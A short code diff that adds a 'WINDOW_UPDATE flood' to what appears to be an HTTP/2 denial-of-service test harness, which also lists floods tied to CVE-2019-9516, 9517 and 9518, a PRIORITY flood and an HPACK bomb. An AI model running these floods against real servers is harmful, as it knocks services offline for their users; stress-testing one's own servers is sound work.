@@ -224,6 +224,11 @@ def priorities(port):
     return repeat(port, b"".join(frames), 200, 5_000)
 
 
+def window_updates(port):
+    """Window updates for the connection, for no DATA at all."""
+    return repeat(port, frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 200, 200, 500)
+
+
 def table_bomb(port):
     """One large field in the dynamic table, and thousands of references to it in each request."""
     connection, sent = Connection(port), 0
@@ -282,6 +287,7 @@ PATTERNS = {
     "empty DATA flood (CVE-2019-9518)": empty_data,
     "DATA flood of padding": padding_only,
     "PRIORITY flood": priorities,
+    "WINDOW_UPDATE flood": window_updates,
     "HPACK bomb": table_bomb,
     "empty field names (CVE-2019-9516)": empty_names,
     "responses without a window (CVE-2019-9517)": no_window,
